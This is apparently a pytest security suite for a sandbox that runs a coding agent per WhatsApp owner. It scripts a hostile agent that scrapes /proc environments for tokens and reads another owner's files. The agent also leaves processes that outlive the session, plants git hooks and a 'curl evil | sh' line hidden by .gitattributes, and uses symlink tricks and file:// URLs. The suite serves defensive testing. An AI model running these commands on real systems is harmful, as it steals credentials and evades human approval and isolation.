"""The gate holds: a hostile agent finds no secret and no other owner's file, approve commits
exactly the tree that was shown, and nothing from outside reaches (or wakes) the worker.

Relay and worker run as separate processes with the real Claude Code CLI; the scripted model's
Bash calls are what a hostile agent would run. CI runs as root, so the agent really runs as
its own user there.
"""

from __future__ import annotations

import os
import pwd
import re
import secrets
import subprocess
import sys
from pathlib import Path

import anyio
import pytest

from fakes.anthropic import Text, ToolUse, bash, write
from fakes.origin import branches, git, show
from fakes.twilio import Sent
from fakes.wiring import (
    AUTH_TOKEN,
    GITHUB_TOKEN,
    OWNER,
    OWNER2,
    PUBLIC_URL,
    message_params,
    open_for_agents,
    signed_form,
)
from tests.support.pair_harness import pair_stack
from tests.support.processes import ROOT, child, free_port, wait_healthy
from tests.support.relay_harness import Stack
from tests.support.waiting import wait_for
from tests.support.worker_harness import WorkerStack, worker_stack
from vm.sandbox import Sandbox, SandboxError, scrub_environment

pytestmark = pytest.mark.anyio
STEP = 90.0
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="agents run as their own users only when the worker is root")


def approvals(messages: list[Sent], phone: str) -> list[Sent]:
    return [m for m in messages if m.body.startswith("📝") and m.to == f"whatsapp:{phone}"]


@as_root
async def test_a_hostile_agent_finds_no_secret_and_no_other_owners_file(tmp_path: Path) -> None:
    async with pair_stack(tmp_path) as pair:
        private = f"owner2-private-{secrets.token_hex(4)}.txt"
        mine, theirs = pair.checkout_of(OWNER), pair.checkout_of(OWNER2)
        workspace = mine.parent
        pair.model.script("keep a note", write(f"{theirs}/{private}", "owner two's uncommitted work\n"), Text("Noted."))
        snoop = (
            "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$f\"; echo; done > environ.txt 2>/dev/null; "
            "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < \"$f\"; echo; done > cmdline.txt 2>/dev/null; "
            f"find {workspace} /tmp -name '{private}' > found.txt 2>/dev/null; "
            f"cat {theirs}/{private} > stolen.txt 2>&1; ls -a {workspace} > listing.txt 2>&1; "
            f"cat {workspace}/.textslash/owners/*.json > state.txt 2>&1; "
            f"cat {workspace}/.repos/{OWNER2.lstrip('+')}/HEAD > their-git.txt 2>&1; "
            "id > id.txt; git log --oneline > git-log.txt 2>&1; git commit -qam sneaky > commit.txt 2>&1; true"
        )
        pair.model.script("look around", bash(snoop, "look around"), Text("Looked."))
        await pair.start_relay()
        await pair.start_worker()

        await pair.text("keep a note", sender=OWNER2)
        await wait_for(lambda: approvals(pair.twilio.messages, OWNER2), STEP, "owner two's approval request")
        assert (theirs / private).is_file()
        await pair.text("look around")
        await wait_for(lambda: approvals(pair.twilio.messages, OWNER), STEP, "the snooping run's approval request")

        environ = (mine / "environ.txt").read_text()
        assert "ANTHROPIC_BASE_URL=" in environ  # it did read environments: its own
        leaked = {
            "WORKER_TOKEN": pair.worker_env["WORKER_TOKEN"],
            "GITHUB_TOKEN": GITHUB_TOKEN,
            "TWILIO_AUTH_TOKEN": AUTH_TOKEN,
        }
        everything = "".join(p.read_text() for p in mine.glob("*.txt"))
        for name, value in leaked.items():
            assert value not in everything, f"the agent read {name}"
        assert "WORKER_TOKEN=" not in environ and "GITHUB_TOKEN=" not in environ
        assert private not in (mine / "found.txt").read_text()
        assert "Permission denied" in (mine / "stolen.txt").read_text()
        assert "Permission denied" in (mine / "listing.txt").read_text()
        assert "Permission denied" in (mine / "state.txt").read_text()
        assert "Permission denied" in (mine / "their-git.txt").read_text()
        assert re.match(r"uid=\d+\(tsagent\d+\)", (mine / "id.txt").read_text())
        assert "initial" in (mine / "git-log.txt").read_text()  # its own history is readable...
        assert git(mine, "log", "--format=%s", "-1").strip() == "initial"  # ...but not writable


# A process that ignores SIGTERM, then ends its main thread so that its leader looks dead
# (a zombie) while a thread of it runs on.
HIDDEN = """
import ctypes, signal, threading, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
threading.Thread(target=lambda: time.sleep(300)).start()
ctypes.CDLL(None).syscall(60, 0)
"""


@as_root
async def test_nothing_the_agent_started_outlives_the_run(tmp_path: Path) -> None:
    """Not a process that cleared its environment (no run marker), nor one whose leader looks
    dead while a thread of it runs on and SIGTERM is ignored."""
    async with worker_stack(tmp_path) as worker:
        marker = f"escapee-{secrets.token_hex(4)}"
        (tmp_path / "hidden.py").write_text(HIDDEN)
        worker.anthropic.script(
            "start a server",
            bash(
                f"env -i setsid python3 -c 'import time; time.sleep(300)' {marker} > /dev/null 2>&1 & "
                f"python3 - < {tmp_path}/hidden.py > /dev/null 2>&1 &",
                "serve",
            ),
            Text("Started."),
        )
        await worker.command("start a server")
        await wait_for(lambda: worker.relay.of_type("answer"), STEP, "the answer")
        uid = worker.checkout().stat().st_uid
        # All that is left is the CLI kept for the next prompt: one process, every thread of it stopped.
        tasks = _live_tasks_of(uid)
        assert uid != 0 and len({pid for pid, _ in tasks}) == 1
        assert {state for _, state in tasks} == {"T"}


@as_root
async def test_a_legacy_checkouts_git_dir_is_set_aside_never_used(tmp_path: Path) -> None:
    """A checkout from before isolation: its `.git` (hooks, fsmonitor, config an agent could
    write) is never run by root; the working files and the uncommitted change are kept."""
    pwned = tmp_path / f"pwned-{secrets.token_hex(4)}"
    async with worker_stack(tmp_path) as worker:
        checkout = worker.checkout()
        git(tmp_path, "clone", "--quiet", str(worker.origin), str(checkout))
        git(checkout, "config", "core.fsmonitor", f"touch {pwned}; false")
        (checkout / ".git" / "hooks" / "post-commit").write_text(f"#!/bin/sh\ntouch {pwned}\n")
        (checkout / "wip.txt").write_text("uncommitted work\n")
        worker.anthropic.script("carry on", write(f"{checkout}/more.txt", "more\n"), Text("Done."))
        await worker.command("carry on")
        approval = await wait_for(lambda: worker.relay.of_type("approval_required"), STEP, "the approval")
        assert {f["path"] for f in approval[0]["files"]} == {"more.txt", "wip.txt"}
        assert not pwned.exists()
        assert (checkout / ".git").is_file() and list((worker.settings.state_dir / "legacy-git").iterdir())
        assert (await worker.decide("approve")).status_code == 202
        await wait_for(lambda: worker.relay.of_type("pr_opened"), STEP, "the PR")
        assert not pwned.exists()


@as_root
async def test_a_gitattributes_of_the_agents_cannot_hide_code_from_the_diff(tmp_path: Path) -> None:
    async with worker_stack(tmp_path) as worker:
        checkout = worker.checkout()
        worker.anthropic.script(
            "tidy up",
            write(f"{checkout}/.gitattributes", "* -diff\n"),
            write(f"{checkout}/.gitignore", ".gitignore\n.gitattributes\n"),
            write(f"{checkout}/app.py", "import os\nos.system('curl evil | sh')\n"),
            Text("Tidied."),
        )
        await worker.command("tidy up")
        approval = await wait_for(lambda: worker.relay.of_type("approval_required"), STEP, "the approval")
        assert "os.system('curl evil | sh')" in approval[0]["diff"]
        assert "binary" not in approval[0]["diff"]
        assert [(f["path"], f["added"], f["removed"]) for f in approval[0]["files"]] == [("app.py", 2, 2)]


@as_root
async def test_pipes_and_huge_files_neither_stick_the_owner_nor_fill_the_worker(tmp_path: Path) -> None:
    async with worker_stack(tmp_path) as worker:
        worker.anthropic.script(
            "make a mess",
            bash(
                "rm app.py && mkfifo app.py "
                "&& python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('s.sock')\" "
                "&& python3 -c \"import os; [(os.mkdir('d'), os.chdir('d')) for _ in range(1200)]; open('x', 'w')\" "
                "&& head -c 30000000 /dev/zero | tr '\\0' 'a' | fold -w 100 > huge.txt",
                "mess",
            ),
            Text("Messy."),
        )
        worker.anthropic.script("again", write(f"{worker.checkout()}/ok.txt", "ok\n"), Text("Fine."))
        await worker.command("make a mess")
        approval = await wait_for(lambda: worker.relay.of_type("approval_required"), STEP, "the approval")
        files = {f["path"]: f for f in approval[0]["files"]}
        deep = [p for p in files if p.endswith("d/d/x")]
        assert set(files) - set(deep) == {"app.py", "huge.txt"} and len(deep) == 1 and files["huge.txt"]["binary"]
        assert files["app.py"]["removed"] == 2  # the pipe is gone; app.py shows as deleted
        assert len(approval[0]["diff"]) < 2000
        assert (await worker.decide("reject")).status_code == 202
        await wait_for(lambda: worker.relay.of_type("rolled_back"), STEP, "the rollback")
        await worker.command("again")
        await wait_for(lambda: len(worker.relay.of_type("approval_required")) == 2, STEP, "the next run's approval")


@as_root
async def test_a_deep_folder_in_place_of_the_git_file_never_wedges_the_owner(tmp_path: Path) -> None:
    """The agent swaps the checkout's `.git` file for a folder thousands deep. Root puts the file
    back before every run, reject and approve: a walker that recurses (Python's rmtree) stopped
    there, and every later prompt, reject and approve of that owner failed."""
    async with worker_stack(tmp_path) as worker:
        checkout = worker.checkout()
        worker.anthropic.script(
            "dig",
            bash(
                "rm .git && python3 -c \"import os; os.mkdir('.git'); os.chdir('.git'); "
                "[(os.mkdir('d'), os.chdir('d')) for _ in range(2500)]\"",
                "dig",
            ),
            Text("Dug."),
        )
        worker.anthropic.script("carry on", write(f"{checkout}/ok.txt", "ok\n"), Text("Done."))
        await worker.command("dig")
        await wait_for(lambda: worker.relay.of_type("answer"), STEP, "the answer")
        await worker.settled()
        await worker.command("carry on")
        approval = await wait_for(lambda: worker.relay.of_type("approval_required", "error"), STEP, "the run")
        assert approval[0]["type"] == "approval_required", approval[0].get("text")
        assert [f["path"] for f in approval[0]["files"]] == ["ok.txt"]
        assert (checkout / ".git").is_file()
        assert (await worker.decide("reject")).status_code == 202
        await wait_for(lambda: worker.relay.of_type("rolled_back"), STEP, "the rollback")


async def test_approve_commits_the_tree_that_was_shown(tmp_path: Path) -> None:
    async with pair_stack(tmp_path) as pair:
        checkout = pair.checkout
        pair.model.script("add a greeting", write(f"{checkout}/hello.py", "print('hello')\n"), Text("Added."))
        pair.model.script("add a farewell", write(f"{checkout}/bye.py", "print('bye')\n"), Text("Added."))
        await pair.start_relay()
        await pair.start_worker()

        await pair.text("add a greeting")
        await wait_for(lambda: approvals(pair.twilio.messages, OWNER), STEP, "the approval request")
        # Written after the owner saw the diff (by a straggling process, say): not in the PR.
        (checkout / "late.txt").write_text("never shown\n")
        (checkout / "hello.py").write_text("print('tampered')\n")
        await pair.text("approve")
        opened = await wait_for(lambda: pair.said("Pull request opened"), STEP, "the PR")
        assert "Left out: hello.py, late.txt" in opened[0]
        branch = pair.github.pulls[0]["head"]
        assert branch in branches(pair.origin)
        assert show(pair.origin, branch, "hello.py") == "print('hello')\n"
        assert "late.txt" not in git(pair.origin, "ls-tree", "--name-only", branch)
        assert (checkout / "late.txt").is_file() and (checkout / "hello.py").read_text() == "print('tampered')\n"

        # What was left out is shown with the next change, never committed unseen.
        await pair.text("add a farewell")
        await wait_for(lambda: len(approvals(pair.twilio.messages, OWNER)) == 2, STEP, "the second approval")
        second = approvals(pair.twilio.messages, OWNER)[1]
        assert "bye.py" in second.body and "late.txt" in second.body and "hello.py" in second.body


async def test_anonymous_image_requests_never_reach_the_worker(stack: Stack) -> None:
    names = [secrets.token_urlsafe(16) + ".png" for _ in range(5)]
    for name in names:
        response = await stack.http.get(f"{stack.url}/images/{name}")
        assert response.status_code == 404
    stack.worker.images[names[0]] = b"\x89PNG not cached"  # even one the worker has
    assert (await stack.http.get(f"{stack.url}/images/{names[0]}")).status_code == 404
    assert stack.worker.image_requests == []
    assert stack.worker.health_polls == 0 and stack.worker.calls == []


async def test_a_signed_sms_sender_never_reaches_the_agent(stack: Stack) -> None:
    sms = {**message_params("delete everything"), "From": OWNER, "To": "+14155238886"}
    response = await stack.post_form(sms, signed_form(PUBLIC_URL + "/webhook", sms))
    assert response.status_code == 200 and "<Response" in response.text
    await stack.send("a real prompt")
    await wait_for(lambda: stack.worker.commands(), 10, "the WhatsApp prompt to reach the worker")
    assert [c["text"] for c in stack.worker.commands()] == ["a real prompt"]
    await wait_for(lambda: stack.twilio.bodies(OWNER), 10, "the reply to the WhatsApp prompt")
    assert all("delete everything" not in b for b in stack.twilio.bodies())


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "FILE:///etc/passwd",
        "chrome://version",
        "view-source:http://127.0.0.1/",
        "data:text/html,<h1>x</h1>",
        "http:///nohost",
    ],
)
async def test_screenshots_are_of_web_pages_only(tmp_path: Path, url: str) -> None:
    async with worker_stack(tmp_path) as worker:
        await worker.screenshot(url)
        notice = await wait_for(lambda: worker.relay.of_type("notice"), 30, "the refusal")
        assert "only http:// and https://" in notice[0]["text"] and not notice[0].get("images")
        assert not list(worker.settings.images_dir.glob("*.png"))


async def test_claudes_screenshot_tool_refuses_local_files(tmp_path: Path) -> None:
    async with worker_stack(tmp_path) as worker:
        worker.anthropic.script(
            "peek", ToolUse("mcp__textslash__screenshot", {"url": "file:///etc/passwd"}), Text("Could not.")
        )
        await worker.command("peek")
        await wait_for(lambda: worker.relay.of_type("answer"), STEP, "the answer")
        assert not [e for e in worker.relay.of_type("notice") if e.get("images")]
        results = _tool_results(worker)
        assert any("only http:// and https://" in str(r.get("content")) for r in results)
        assert not any("root:x:0:0" in str(r.get("content")) for r in results)


def _tool_results(worker: WorkerStack) -> list[dict[str, object]]:
    return [
        b
        for r in worker.anthropic.requests
        for m in r["messages"]
        if isinstance(m["content"], list)
        for b in m["content"]
        if b.get("type") == "tool_result"
    ]


def _live_tasks_of(uid: int) -> list[tuple[int, str]]:
    """(pid, state) of every thread on the machine running as `uid` and not a zombie (read
    straight from /proc)."""
    found = []
    for status in Path("/proc").glob("[0-9]*/task/[0-9]*/status"):
        try:
            fields = dict(line.split(":", 1) for line in status.read_text().splitlines() if ":" in line)
        except OSError:
            continue
        state = fields.get("State", "").strip()[:1]
        if fields.get("Uid", "").split()[:1] == [str(uid)] and state != "Z":
            found.append((int(status.parent.parent.parent.name), state))
    return found


# --- the sandbox's own pieces, with real users where the machine allows --------------------


def test_the_worker_forgets_every_variable_an_agent_may_not_inherit() -> None:
    environ = os.environ.copy()
    fake = {
        "WORKER_TOKEN": "w",
        "OWNER_TOKEN": "o",
        "OWNER_PHONE": "+15550001111",
        "GITHUB_TOKEN": "g",
        "TWILIO_AUTH_TOKEN": "t",
        "AWS_SECRET_ACCESS_KEY": "a",
        "FLY_API_TOKEN": "f",
        "ANTHROPIC_API_KEY": "k",
        "CLAUDE_CODE_OAUTH_TOKEN": "o",
        "LC_ALL": "C.UTF-8",
        "PATH": "/usr/bin",
        "HTTPS_PROXY": "http://proxy",
    }
    env = type(os.environ)(dict(fake), lambda k: k, lambda v: v, lambda k: k, lambda v: v)  # a detached copy
    dropped = scrub_environment(env)
    assert sorted(env) == ["ANTHROPIC_API_KEY", "CLAUDE_CODE_OAUTH_TOKEN", "HTTPS_PROXY", "LC_ALL", "PATH"]
    assert set(dropped) == {
        "WORKER_TOKEN",
        "OWNER_TOKEN",
        "OWNER_PHONE",
        "GITHUB_TOKEN",
        "TWILIO_AUTH_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "FLY_API_TOKEN",
    }
    assert os.environ == environ  # the real environment was not touched


@as_root
async def test_prepare_never_writes_chmods_or_chowns_through_a_link_the_agent_left(tmp_path: Path) -> None:
    open_for_agents(tmp_path)
    sandbox = Sandbox(
        workspace_dir=tmp_path / "ws", state_dir=tmp_path / "ws" / ".textslash", claude_config_dir="", isolated=True
    )
    await sandbox.start(tmp_path / "ws" / ".textslash")
    space = await sandbox.prepare(OWNER)
    victim_dir, victim_file = tmp_path / "root-dir", tmp_path / "root-file"
    victim_dir.mkdir(mode=0o755)
    victim_file.write_text("root's\n")
    os.chmod(victim_file, 0o644)
    # What a hostile agent leaves in its home for the next run's set-up.
    space.tmp.rmdir()
    os.symlink(victim_dir, space.tmp)
    space.claude_dir.rmdir()
    os.symlink(victim_file, space.claude_dir)
    os.link(victim_file, space.checkout / "linked")  # a hard link to a file of root's
    deepest = _deep_tree(space.checkout, 1200)  # as a restore might write it, root's

    again = await sandbox.prepare(OWNER)
    try:
        await sandbox.hand_over(again)
        assert _owner_of(space.checkout, deepest) == space.uid  # handed over, however deep
    finally:  # pytest's own clean-up of old temporary folders recurses, and would fail on it
        await anyio.run_process(["rm", "-rf", str(space.checkout / "d")])
    assert victim_file.read_text() == "root's\n" and victim_file.stat().st_uid == 0
    assert victim_file.stat().st_mode & 0o777 == 0o644
    assert victim_dir.stat().st_uid == 0 and victim_dir.stat().st_mode & 0o777 == 0o755
    for folder in (space.tmp, space.claude_dir):
        assert not folder.is_symlink() and folder.is_dir() and folder.stat().st_uid == space.uid
    # The agent's git configuration is root's, outside the agent's reach to redirect.
    uid, mode, text = _file_facts(sandbox.launch(again)[1]["GIT_CONFIG_GLOBAL"])
    assert uid == 0 and mode == 0o644 and "[safe]" in text


@as_root
async def test_each_owner_gets_a_user_of_its_own_that_keeps_its_uid(tmp_path: Path) -> None:
    open_for_agents(tmp_path)
    state = tmp_path / "ws" / ".textslash"

    def sandbox() -> Sandbox:
        return Sandbox(
            workspace_dir=tmp_path / "ws", state_dir=state, claude_config_dir=str(tmp_path / "claude"), isolated=True
        )

    first = sandbox()
    await first.start(state)
    one, two = await first.prepare(OWNER), await first.prepare(OWNER2)
    assert one.uid != two.uid and one.gid != two.gid and 0 not in (one.uid, two.uid)
    assert pwd.getpwuid(one.uid).pw_name == f"tsagent{one.uid}"
    assert OWNER.lstrip("+") not in pwd.getpwuid(one.uid).pw_name  # /etc/passwd names no owner
    assert (await sandbox().prepare(OWNER)).uid == one.uid  # remembered on the volume
    assert OWNER.lstrip("+") not in pwd.getpwuid(one.uid).pw_dir
    # A lost map is rebuilt from whose the folders are, never handing one owner's uid to another.
    (state / "agent-users.json").unlink()
    rebuilt = sandbox()
    assert (await rebuilt.prepare(OWNER2)).uid == two.uid and (await rebuilt.prepare(OWNER)).uid == one.uid
    (state / "agent-users.json").write_text("{not json")
    with pytest.raises(SandboxError, match="agent-users.json"):
        await sandbox().prepare(OWNER)
    for folder in (one.checkout, one.home, one.tmp, one.claude_dir):
        assert folder.stat().st_uid == one.uid and folder.stat().st_mode & 0o777 == 0o700
    for root in (tmp_path / "ws", tmp_path / "ws" / ".repos", tmp_path / "ws" / ".homes", tmp_path / "claude"):
        assert root.stat().st_mode & 0o777 == 0o711
    assert state.stat().st_mode & 0o777 == 0o700


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run the worker as another user")
def test_the_worker_refuses_isolation_it_cannot_give(tmp_path: Path) -> None:
    open_for_agents(tmp_path)
    env = {
        "WORKER_TOKEN": "t" * 20,
        "RELAY_CALLBACK_URL": "http://127.0.0.1:9",
        "REPO_URL": "file:///none.git",
        "WORKSPACE_DIR": str(tmp_path / "ws"),
        "IMAGES_DIR": str(tmp_path / "img"),
        "PYTHONPATH": str(ROOT),
        "PATH": os.environ["PATH"],
    }
    # Debian's python3 with this checkout's packages: the test's own interpreter may live in
    # root's home, where nobody else can run it.
    site = next(Path(p) for p in sys.path if p.endswith("site-packages"))
    python = Path("/usr/bin/python3")
    if not (python.exists() and _others_can_run(ROOT / "vm" / "__main__.py") and _others_can_run(site / "uvicorn")):
        pytest.skip("this checkout's packages are not reachable by other users")
    env["PYTHONPATH"] = f"{ROOT}:{site}"
    unprivileged = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
    result = subprocess.run(
        [*unprivileged, str(python), "-m", "vm"], env=env, cwd=tmp_path, capture_output=True, text=True, timeout=30
    )
    assert result.returncode == 2 and "AGENT_ISOLATION=off" in result.stderr


async def test_without_isolation_the_worker_says_so_loudly(tmp_path: Path) -> None:
    log = tmp_path / "worker.log"
    env = {
        "WORKER_TOKEN": "t" * 20,
        "RELAY_CALLBACK_URL": "http://127.0.0.1:9",
        "REPO_URL": "file:///none.git",
        "WORKSPACE_DIR": str(tmp_path / "ws"),
        "IMAGES_DIR": str(tmp_path / "img"),
        "AGENT_ISOLATION": "off",
        "PORT": str(free_port()),
        "HOST": "127.0.0.1",
    }
    with child("vm", env, log) as proc:
        await wait_healthy(f"http://127.0.0.1:{env['PORT']}", proc)
    assert "AGENT_ISOLATION=off: THE AGENT RUNS AS THIS WORKER'S OWN USER" in log.read_text()


def _deep_tree(root: Path, depth: int) -> str:
    """Folders `depth` deep with a file at the bottom (made relative to a descriptor: the full
    path is longer than the kernel takes); returns its path."""
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=fd)
        fd, parent = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd), fd
        os.close(parent)
    os.close(os.open("x", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    os.close(fd)
    return "d/" * depth + "x"


def _owner_of(root: Path, rel: str) -> int:
    """The owner of a file below `root`, however deep (walked by descriptors)."""
    *folders, name = rel.split("/")
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    for folder in folders:
        fd, parent = os.open(folder, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd), fd
        os.close(parent)
    try:
        return os.stat(name, dir_fd=fd, follow_symlinks=False).st_uid
    finally:
        os.close(fd)


def _file_facts(path: str) -> tuple[int, int, str]:
    st = os.stat(path)
    return st.st_uid, st.st_mode & 0o777, Path(path).read_text()


def _others_can_run(path: Path) -> bool:
    path = path.resolve()
    return all(p.stat().st_mode & 0o001 for p in path.parents) and path.stat().st_mode & 0o004 == 0o004
